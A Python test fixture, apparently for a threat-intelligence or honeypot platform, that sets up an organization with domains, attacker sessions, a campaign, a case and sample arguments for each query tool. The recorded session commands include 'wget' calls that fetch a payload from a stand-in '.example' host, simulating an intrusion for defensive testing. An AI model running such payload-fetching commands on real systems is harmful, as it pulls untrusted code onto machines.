"""One of everything that tools tell of, in an organization of its own."""

from dataclasses import dataclass
from typing import Any

from clew.projections.service import catch_up
from tests.support.api import Api
from tests.support.identity import some_name
from tests.support.makers import Workshop
from tests.support.record import Tenant, new_organization


@dataclass(frozen=True)
class World:
    """An organization with one of everything. `arguments` are such that each tool has something to tell."""

    api: Api
    tenant: Tenant
    arguments: dict[str, dict[str, Any]]
    names: frozenset[str]


def new_world(api: Api) -> World:
    """A new organization with all of that, and a search view that shows it."""
    tenant = new_organization(api.database)
    workshop = Workshop(api, tenant)
    above, below, payload = (f"{some_name()}.example" for _ in range(3))
    with workshop.writer() as writer:
        near, far = writer.entity("domain", above), writer.entity("domain", below)
        relationship = str(writer.relationship(far, "SUBDOMAIN_OF", near))
        writer.session("198.51.100.71", commands=(f"wget {payload}",))
        attack = str(writer.session("198.51.100.72", commands=(f"wget {payload}",)))
    case, campaign = workshop.thing("investigation_id"), workshop.thing("campaign_id")
    analysis = workshop.thing("analysis_id")
    workshop.thing("job_id")
    arguments: dict[str, dict[str, Any]] = {
        "search": {"q": above},
        "suggest": {"q": above[:6]},
        "describe_record": {},
        "show_projections": {},
        "list_jobs": {},
        "who_am_i": {},
        "find_entities": {"value_prefix": above},
        "look_up": {"value": above},
        "get_entity": {"entity": str(near)},
        "list_relationships": {"entity": str(near)},
        "get_relationship": {"relationship_id": relationship},
        "find_path": {"start": str(far), "goal": str(near)},
        "find_attacks": {"source_ip": "198.51.100.72"},
        "get_attack": {"attack_id": attack},
        "list_attack_events": {"attack_id": attack},
        "find_events": {"since": "2025-03-01T00:00:00Z"},
        "list_campaigns": {"all": True},
        "get_campaign": {"campaign": campaign},
        "explain_campaign": {"campaign": campaign},
        "explain_addresses": {"first": "198.51.100.71", "second": "198.51.100.72"},
        "list_analyses": {},
        "get_analysis": {"analysis_id": analysis},
        "list_cases": {},
        "get_case": {"case": case},
        "read_report": {"case": case},
        "run_analysis": {"wait_seconds": 0},
        "write_report": {"case": case, "format": "json"},
        "open_case": {"name": f"Case {some_name()}"},
        "add_target": {"case": case, "value": "c2.example.net"},
    }
    assert catch_up(api.database) is not None
    return World(api, tenant, arguments, frozenset({above, below, payload, campaign, case, analysis, attack}))
